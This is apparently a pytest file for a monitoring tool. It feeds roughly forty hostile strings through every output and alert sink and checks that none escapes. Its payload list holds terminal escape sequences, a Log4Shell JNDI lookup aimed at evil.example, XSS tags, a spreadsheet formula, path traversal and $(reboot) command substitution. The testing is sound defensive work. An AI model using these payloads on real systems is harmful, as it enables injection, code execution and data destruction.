"""Forty hostile texts in every field of every record, through every output there is: none escapes."""

import io
import json
import re
import unicodedata
from collections.abc import Callable, Iterable
from importlib import import_module
from inspect import isclass
from pathlib import Path
from pkgutil import iter_modules
from typing import Any, get_args

import msgspec
import pytest
from jsonschema import Draft202012Validator
from prometheus_client.parser import text_string_to_metric_families
from rich.cells import cell_len

from monitor import outputs
from monitor.model.sinks import AlertmanagerSink, Language, RecordType, SyslogSink, WebhookSink
from monitor.model.summary import Summary
from monitor.outputs import OUTPUTS, Output
from monitor.outputs.calls import CallList
from monitor.outputs.journal import Journal, schema
from monitor.outputs.metrics import Metrics
from monitor.outputs.records import KINDS, Record, object_of
from monitor.outputs.sinks import SINKS, Outlet, outlet_of
from monitor.outputs.terminal import Terminal
from tests.outputs.outputs_samples import DECODE, PLATFORMS, REPLAY, RULES, SUMMARY

PAYLOADS = {
    "red": "\x1b[31;5;47mX",
    "clear screen": "\x1b[2J\x1b[HX",
    "cursor up and erase": "\x1b[1A\x1b[2KX",
    "window title": "\x1b]0;pwned\x07X",
    "hyperlink": "\x1b]8;;https://evil.example\x1b\\X\x1b]8;;\x1b\\",
    "clipboard": "\x1b]52;c;cm0gLXJm\x07X",
    "device control": "\x1bP+q544e\x1b\\X",
    "application command": "\x1b_Gx\x1b\\X",
    "terminal reset": "\x1bcX",
    "report back": "\x1b[6nX",
    "one-byte CSI": "\x9b31mX",
    "one-byte OSC": "\x9d0;pwned\x9cX",
    "carriage return": "innocent\rEVIL",
    "second line": "innocent\nALERT none",
    "line of journal": '"}\n{"type":"alert","id":"0"}',
    "closing quote": '","verdict":"invited","x":"',
    "backspaces": "bad\x08\x08\x08good",
    "bell and tabs": "\x07\t\v\fX",
    "null": "a\x00b",
    "delete": "a\x7fb",
    "next line": "a\x85b",
    "line separator": "a\u2028b\u2029c",
    "right to left": "\u202eenod\u202c X",
    "isolates": "\u2066a\u2067b\u2069",
    "zero width": "a\u200b\u200c\u200d\u2060\ufeffb",
    "blank letters": "\u3164\u115f\u1160\uffa0",
    "tags": "X\U000e0041\U000e007f",
    "climbing marks": "Z" + "\u0300\u0489\u0361" * 200,
    "lone surrogates": "\ud83d X \udc80",
    "no characters": "\uffff\ufdd0\U0010ffff X",
    "markup": "[bold red]X[/bold red][link=https://evil.example]Y[/]",
    "broken markup": "[/][[[red",
    "emoji code": ":skull: :smiley:",
    "metric line": '"} 1\njoinwatch_alerts_total{rule="evil"} 9\n# ',
    "metric escape": '\\"} 1 \\n',
    "log lookup": "${jndi:ldap://evil.example/a}",
    "format": "{0.__class__} %s %n %(x)s",
    "script": "<script>alert(1)</script><img src=x onerror=y>",
    "formula": "=HYPERLINK(1)|' /C calc'!A0;@SUM(1)",
    "path and shell": "../../../etc/passwd; $(reboot) `reboot`",
    "endless": "A" * 100_000,
    "wide": "漢字👩‍👩‍👧‍👦" * 500,
}
LITERALS = ("how", "by")
"""Fields of a closed list that is no enumeration."""


def planted(noun: Any, payload: str) -> Any:
    """The same record with this text in every field that can hold one."""
    if type(noun) is str:
        return payload
    if isinstance(noun, tuple):
        return tuple(planted(one, payload) for one in noun)
    if isinstance(noun, dict):
        return {**noun, payload: 1}
    if isinstance(noun, msgspec.Struct):
        fields = {name: getattr(noun, name) for name in noun.__struct_fields__ if name not in LITERALS}
        return msgspec.structs.replace(noun, **{name: planted(value, payload) for name, value in fields.items()})
    return noun


def one_of_each(records: Iterable[Record]) -> list[Record]:
    return list({type(record): record for record in records}.values())


SAMPLES = one_of_each([*REPLAY, *DECODE])


def fed(output: Output, payload: str) -> None:
    for record in SAMPLES:
        output.write(planted(record, payload))
    output.close()


def is_plain(char: str) -> bool:
    """Whether a terminal shows this character and does nothing else."""
    return unicodedata.category(char) not in ("Cc", "Cf", "Cs", "Co", "Cn", "Zl", "Zp")


def check_page(text: str, payload: str) -> None:
    assert all(is_plain(char) for char in text.replace("\n", ""))
    assert not re.search("[\u0300-\u036f\u0489]{3}", text)
    assert all(cell_len(line) <= 80 for line in text.split("\n") if "joinwatch explain" not in line)
    if not all(map(is_plain, payload)):
        assert payload not in text


def check_terminal(payload: str) -> None:
    for coloured in (False, True):
        stream = io.StringIO()
        fed(Terminal(stream, width=80, colour=coloured), payload)
        check_coloured(stream.getvalue(), payload, coloured)


def check_calls(payload: str) -> None:
    for coloured in (False, True):
        stream = io.StringIO()
        fed(CallList(stream, width=80, colour=coloured), payload)
        check_coloured(stream.getvalue(), payload, coloured)


def check_coloured(text: str, payload: str, coloured: bool) -> None:
    assert len(text) > 100
    if coloured:
        assert "\x1b[" in text
        # Only colours and weights that the house itself uses.
        styles = set(re.findall(r"\x1b\[([0-9;]*)m", text))
        assert styles <= {"0", "1", "2", "32", "33", "36", "1;31", "1;33", "1;37;41"}
        text = re.sub(r"\x1b\[[0-9;]*m", "", text)
    check_page(text, payload)


def check_journal(payload: str) -> None:
    valid = Draft202012Validator(json.loads(schema()))
    for mode in ("replay", "decode"):
        sink = io.BytesIO()
        fed(Journal(sink, mode), payload)  # type: ignore[arg-type]
        text = sink.getvalue().decode("utf-8")
        assert text.endswith("\n")
        assert all(is_plain(char) for char in text.replace("\n", "") if unicodedata.category(char) != "Cn")
        lines = text[:-1].split("\n")
        assert lines == text.splitlines()
        assert len(lines) == (7 if mode == "replay" else 9)
        for line in lines:
            valid.validate(json.loads(line))
            assert isinstance(msgspec.json.decode(line), dict)


def check_metrics(payload: str) -> None:
    metrics = Metrics(RULES, PLATFORMS, counts=SUMMARY.counts)
    before = series_of(metrics)
    fed(metrics, payload)
    after = series_of(metrics)
    # A rule and a platform that nobody announced are counted as others: no series is new.
    assert after == before
    assert payload not in metrics.text().decode()


def series_of(metrics: Metrics) -> set[tuple[str, tuple[tuple[str, str], ...]]]:
    return {
        (sample.name, tuple(sorted(sample.labels.items())))
        for family in text_string_to_metric_families(metrics.text().decode())
        for sample in family.samples
        if sample.name != "joinwatch_work_total" or sample.labels["what"] not in COUNTS
    }


COUNTS = {name for record in SAMPLES if isinstance(record, Summary) for name in record.counts}
CHECKS: dict[str, Callable[[str], None]] = {
    "journal": check_journal,
    "metrics": check_metrics,
    "terminal": check_terminal,
    "calls": check_calls,
}


def test_every_output_is_checked() -> None:
    assert set(CHECKS) == set(OUTPUTS)


def test_whatever_takes_records_is_named_as_an_output() -> None:
    """A class with `write` and `close` in this stage is an output: it is in `OUTPUTS`, and so has a check above."""
    found = set()
    for module in iter_modules(outputs.__path__):
        for name, one in vars(import_module(f"monitor.outputs.{module.name}")).items():
            is_ours = isclass(one) and one.__module__ == f"monitor.outputs.{module.name}"
            if is_ours and hasattr(one, "write") and hasattr(one, "close"):
                found.add({"CallList": "calls"}.get(name, name.lower()))
    found.discard("veiled")  # It writes nothing itself: it hands on to the outputs that it is given.
    assert found == set(OUTPUTS)


def test_there_are_forty_payloads() -> None:
    assert len(PAYLOADS) >= 40


@pytest.mark.parametrize("output", OUTPUTS)
@pytest.mark.parametrize("payload", PAYLOADS.values(), ids=PAYLOADS)
def test_nothing_escapes(output: str, payload: str) -> None:
    CHECKS[output](payload)


@pytest.mark.parametrize("text", ["[bold red]X[/]", ":skull:", "[/]"])
def test_markup_of_the_library_is_shown_as_it_stands(text: str) -> None:
    for output in (Terminal, CallList):
        stream = io.StringIO()
        fed(output(stream, width=160, colour=False), text)
        assert text in stream.getvalue()


WAYS = [(people, language) for people in (True, False) for language in get_args(Language)]
"""Of telling: with people and without, in each language."""


def lines_with(payload: str, language: str) -> list[dict[str, Any]]:
    """Lines of the journal with this text wherever there can be one, as a sink reads them.

    In another language the rule is a known one: what nobody has translated would be told in English.
    """
    said = [object_of(planted(record, payload), 0) for record in SAMPLES if isinstance(record, KINDS["replay"])]
    lines = [msgspec.json.decode(msgspec.json.encode(one)) for one in said if one is not None]
    for line in lines:
        if line["type"] == "alert" and language != "en":
            line["rule"] = "pin-bypass"
    return [line for line in lines if line["type"] in get_args(RecordType)]


def delivered(sink: Outlet, lines: list[dict[str, Any]], monkeypatch: pytest.MonkeyPatch) -> list[tuple[bytes, Any]]:
    """Bodies and headers that a sink posts."""
    posted: list[tuple[bytes, Any]] = []
    monkeypatch.setattr(sink._poster, "post", lambda body, headers=None: posted.append((body, headers or {})))  # type: ignore[attr-defined]
    sink.deliver(lines)
    return posted


def check_json(raw: bytes) -> Any:
    text = raw.decode("utf-8")
    assert all(is_plain(char) for char in text if unicodedata.category(char) != "Cn")
    return json.loads(text)


def check_webhook(payload: str, folder: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    (folder / "secret").write_text("a secret of thirty-two characters", encoding="ascii")
    for form in ("journal", "ecs", "ocsf"):
        for people, language in WAYS:
            settings = WebhookSink(
                url="http://192.0.2.1/",
                secret_file=str(folder / "secret"),
                format=form,
                people=people,
                language=language,
            )
            lines = lines_with(payload, language)
            posted = delivered(outlet_of(settings, {}), lines, monkeypatch)
            assert len(posted) == len(lines)
            for body, headers in posted:
                said = check_json(body)
                if form == "journal":
                    Draft202012Validator(json.loads(schema())).validate(said)
                assert all(re.fullmatch("[ -~]+", value) for value in headers.values())
                assert re.fullmatch("[A-Za-z0-9-]+", headers["webhook-id"])


def check_alertmanager(payload: str, folder: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    for people, language in WAYS:
        sink = outlet_of(AlertmanagerSink(url="http://192.0.2.1/", people=people, language=language), {})
        lines = [said for said in lines_with(payload, language) if sink.wants(said)]
        ((body, _),) = delivered(sink, lines, monkeypatch)
        for alert in check_json(body):
            assert set(alert["labels"]) <= {"alertname", "severity", "platform", "alert_id", "sensor"}
            for value in (*alert["labels"].values(), *alert["annotations"].values()):
                assert len(value) <= 1024
                assert all(map(is_plain, value))


SYSLOG = re.compile(
    r"<[0-9]{1,3}>1 [0-9TZ:.-]+ [!-~]{1,255} joinwatch - [!-~]{1,32} "
    r"\[joinwatch@32473((?: [a-z_]+=\"(?:[^\"\\\]]|\\[\"\\\]])*\")*)\] \ufeff?(.*)"
)


def check_syslog(payload: str, folder: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    for form in ("rfc5424", "cef", "ecs", "ocsf"):
        for people, language in WAYS:
            settings = SyslogSink(address="tcp://192.0.2.1:601", format=form, people=people, language=language)
            sink = outlet_of(settings, {})
            for said in lines_with(payload, language):
                raw = sink.message_of(said)  # type: ignore[attr-defined]
                assert len(raw) <= 8192
                text = raw.decode("utf-8")
                assert all(map(is_plain, text.replace("\ufeff", "", 1)))
                parts = SYSLOG.fullmatch(text)
                assert parts is not None
                names = re.findall(r' ([a-z_]+)="(?:[^"\\\]]|\\.)*"', parts[1])
                assert len(names) == len(set(names))
                if form == "cef":
                    check_cef(parts[2])
                elif form != "rfc5424":
                    assert json.loads(parts[2])


def check_cef(text: str) -> None:
    """As a receiver reads it: seven bars that are not escaped, and pairs whose keys are ours."""
    head = re.fullmatch(r"CEF:0((?:\|(?:[^|\\]|\\[|\\])*){6})\|(.*)", text)
    assert head is not None
    keys = re.findall(r"(?:^| )([A-Za-z0-9]+)=", re.sub(r"\\.", "", head[2]))
    known = {"rt", "cat", "externalId", "cnt", "start", "end", "suser", "app", "outcome", "reason", "dvchost", "msg"}
    assert set(keys) <= known | {f"cs{number}{label}" for number in range(1, 7) for label in ("", "Label")}
    assert len(keys) == len(set(keys))


SINK_CHECKS: dict[str, Callable[[str, Path, pytest.MonkeyPatch], None]] = {
    "alertmanager": check_alertmanager,
    "webhook": check_webhook,
    "syslog": check_syslog,
}


def test_every_sink_is_checked() -> None:
    assert set(SINK_CHECKS) == set(SINKS)


def test_whatever_delivers_is_named_as_a_sink() -> None:
    """A class with `deliver` and `close` among the sinks is one: it is in `SINKS`, and so has a check above."""
    found = set()
    for module in iter_modules(outputs.sinks.__path__):
        for name, one in vars(import_module(f"monitor.outputs.sinks.{module.name}")).items():
            if isclass(one) and one.__module__.endswith(module.name) and hasattr(one, "deliver"):
                found.add(name.lower())
    assert found == set(SINKS)


@pytest.mark.parametrize("sink", SINKS)
@pytest.mark.parametrize("payload", PAYLOADS.values(), ids=PAYLOADS)
def test_nothing_escapes_through_a_sink(
    sink: str, payload: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    SINK_CHECKS[sink](payload, tmp_path, monkeypatch)
